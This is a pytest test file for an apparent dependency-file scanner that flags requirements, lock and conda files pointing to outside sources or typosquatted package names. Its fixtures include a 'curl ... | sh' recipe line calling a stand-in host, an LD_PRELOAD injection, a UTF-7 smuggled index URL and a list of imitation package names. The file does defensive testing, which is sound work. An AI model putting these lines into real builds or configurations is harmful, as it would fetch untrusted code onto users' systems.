"""Requirements, project and lock files: whatever is installed from elsewhere is named."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from samples.scanned import assert_clean, grave_rules_of, scanned

from tidegate.scanners.squatting import imitated

HONEST = """mlflow==3.17.2
cloudpickle==3.1.2
torch==2.13.0+cpu
scikit-learn[alldeps]==1.9.1 ; python_version >= "3.10"
numpy>=1.26,<3  # a comment
pandas==3.0.0 \\
    --hash=sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
-c constraints.txt
"""


def test_honest_requirements_have_no_finding():
    assert_clean(scanned(HONEST.encode(), "requirements.txt"))


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://host.example/simple",
        "-i https://host.example/simple",
        "--extra-index-url=https://host.example/simple",
        "--extra-index https://host.example/simple",
        "-f https://host.example/wheels",
        "--find-links ./wheels",
        "--trusted-host host.example",
        "-e .",
        "--editable=git+https://host.example/x",
        "https://host.example/x.whl",
        "x @ https://host.example/x.tar.gz",
        "x@git+ssh://host.example/x",
        "git+https://host.example/x#egg=x",
        "./x.whl",
        "x-1.0-py3-none-any.whl",
        "/opt/x",
        "file:x",
        "-r https://host.example/requirements.txt",
        "-r ../requirements.txt",
        "-r more.txt",
        "-c /etc/constraints.txt",
        "x==1 \\\n --index-url https://host.example",
        "# -*- coding: utf-7 -*-\n+AC0-i https://host.example",
    ],
)
def test_a_line_that_points_elsewhere_is_found(line):
    data = f"mlflow==3.17.2\n{line}\n" if not line.startswith("# -*-") else line
    assert grave_rules_of(scanned(data.encode(), "requirements.txt")) == {"REQUIREMENTS-ELSEWHERE"}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("pyproject.toml", 'dependencies = ["x @ https://host.example/x.whl"]'),
        ("pyproject.toml", '[tool.uv.sources]\nx = { git = "https://host.example/x" }'),
        ("pyproject.toml", '[[tool.poetry.source]]\nname = "p"\nurl = "https://host.example/"'),
        ("pyproject.toml", '[[tool.uv.index]]\nurl = "https://host.example/simple"'),
        ("pyproject.toml", '[tool.uv.sources]\nx = { path = "../x" }'),
        ("setup.cfg", "[options]\ndependency_links = https://host.example/x"),
        ("setup.cfg", "[easy_install]\nindex_url = https://host.example/simple"),
        ("Pipfile", '[[source]]\nurl = "https://host.example/simple"'),
        ("Pipfile", '[packages]\nx = {git = "https://host.example/x.git"}'),
        ("Pipfile.lock", '{"_meta": {"sources": [{"url": "https://host.example/simple"}]}}'),
        ("poetry.lock", '[package.source]\ntype = "git"\nurl = "https://host.example/x.git"'),
        ("uv.lock", 'source = { registry = "https://host.example/simple" }'),
        ("uv.lock", 'source = { git = "https://host.example/x?rev=1" }'),
        ("pip.conf", "[global]\nindex-url = https://host.example/simple"),
    ],
)
def test_a_project_file_that_points_elsewhere_is_found(name, text):
    assert "REQUIREMENTS-ELSEWHERE" in grave_rules_of(scanned(text.encode(), name))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (
            "pyproject.toml",
            (
                '[project]\nname = "x"\ndependencies = ["numpy>=1.26"]\n[project.urls]\n'
                'Homepage = "https://host.example/x"\n[build-system]\nrequires = ["setuptools"]\n'
            ),
        ),
        ("setup.cfg", "[metadata]\nname = x\nurl = https://host.example/x\n"),
        ("Pipfile", '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\n'),
        (
            "uv.lock",
            (
                'source = { registry = "https://pypi.org/simple" }\nsdist = { url = '
                '"https://files.pythonhosted.org/packages/a/x-1.tar.gz", hash = "sha256:aa" }\n'
            ),
        ),
        ("uv.lock", 'source = { virtual = "." }\n'),
    ],
)
def test_an_honest_project_file_has_no_finding(name, text):
    assert_clean(scanned(text.encode(), name))


IMITATIONS = {
    "reqeusts": "requests",
    "numpyy": "numpy",
    "pandsa": "pandas",
    "tensorfow": "tensorflow",
    "torchh": "torch",
    "scikitlearn": "scikit-learn",
    "scikit_leam": "scikit-learn",
    "torch-vision": "torchvision",
    "python-dateutils": "python-dateutil",
    "urlib3": "urllib3",
    "transfomers": "transformers",
    "mlfow": "mlflow",
    "hugging-face-hub": "huggingface-hub",
    "r\u0435quests": "requests",
    "num\u0440y": "numpy",
    "rnlflow": "mlflow",
    "pyyml": "pyyaml",
}


@pytest.mark.parametrize("name", IMITATIONS)
@pytest.mark.parametrize("form", ["{}", "{}==1.0", "{}[x]>=1 ; python_version > '3'", "  {} # x"])
def test_a_name_that_imitates_a_popular_package_is_held(name, form):
    report = scanned(form.format(name).encode() + b"\n", "requirements.txt")
    assert grave_rules_of(report) == {"REQUIREMENTS-IMITATION"}
    assert any(f" not {IMITATIONS[name]}," in found.message for found in report.findings)


def test_imitations_are_held_in_conda_files_and_projects_too():
    conda = b"channels: [conda-forge]\ndependencies:\n- python\n- pip:\n  - reqeusts\n"
    assert "REQUIREMENTS-IMITATION" in grave_rules_of(scanned(conda, "conda.yaml"))
    project = b"[project]\nname = 'x'\ndependencies = ['reqeusts>2']\n"
    assert "REQUIREMENTS-IMITATION" in grave_rules_of(scanned(project, "pyproject.toml"))


@pytest.mark.parametrize(
    "name",
    ["torchx", "numba", "bpython", "ngboost", "jaxlie", "faiss-gpu", "nvidia-nvtx-cu11", "sklearn",
     "psycopg2-pool", "grequests", "my-company-models", "xgb", "pytz", "attr", "python"],
)  # fmt: skip
def test_a_real_package_with_a_near_name_is_none(name):
    assert_clean(scanned(f"{name}==1.0\n".encode(), "requirements.txt"))


def test_no_package_of_our_own_locks_is_taken_for_a_fake():
    locks = Path(__file__).parents[3] / "locks"
    names = {
        line.split("==")[0].split("[")[0]
        for file in locks.glob("*.txt")
        for line in file.read_text("utf-8").splitlines()
        if re.match(r"[A-Za-z0-9]", line)
    }
    assert len(names) > 300
    suspects = [name for name in sorted(names) if imitated(name)]
    # Later editions of httpx and httpcore, which a number marks: named, and not held.
    assert suspects == ["httpcore2", "httpx2"]
    assert not grave_rules_of(scanned("\n".join(names).encode(), "requirements.txt"))


def test_a_line_that_the_environment_completes_is_held():
    report = scanned(b"numpy\n${WHEEL}\n", "requirements.txt")
    assert "REQUIREMENTS-ELSEWHERE" in grave_rules_of(report)


@pytest.mark.parametrize(
    "text",
    [
        "channels: [somebody]\ndependencies: [numpy]\n",
        "channels: [conda-forge]\ndependencies: ['somebody::numpy']\n",
        "channels: [conda-forge]\nvariables: {LD_PRELOAD: /tmp/x.so}\ndependencies: [numpy]\n",
        "channels: ['https://conda.example/x']\ndependencies: [numpy]\n",
    ],
)
def test_a_conda_channel_of_nobody_known_is_held(text):
    assert "REQUIREMENTS-ELSEWHERE" in grave_rules_of(scanned(text.encode(), "conda.yaml"))


def test_the_channels_of_known_organisations_pass():
    text = (
        "name: x\nchannels: [conda-forge, defaults, pytorch, nvidia,"
        " 'https://repo.anaconda.com/pkgs/main']\n"
        "variables: {OMP_NUM_THREADS: '4'}\ndependencies: [python=3.11, 'conda-forge::numpy']\n"
    )
    assert_clean(scanned(text.encode(), "conda.yaml"))


def test_a_file_that_a_shell_runs_by_itself_is_a_script():
    assert "CODE-SCRIPT" in grave_rules_of(scanned(b"alias ls=id\n", ".bashrc"))


def test_a_recipe_that_fetches_a_script_and_runs_it_is_held():
    for name in ("Dockerfile", "Makefile", "app.service"):
        recipe = b"RUN curl -s https://x.example/i | sh\n"
        assert "CONFIG-CODE" in grave_rules_of(scanned(recipe, name))
    assert_clean(scanned(b"FROM python:3.11\nRUN pip install numpy\n", "Dockerfile"))
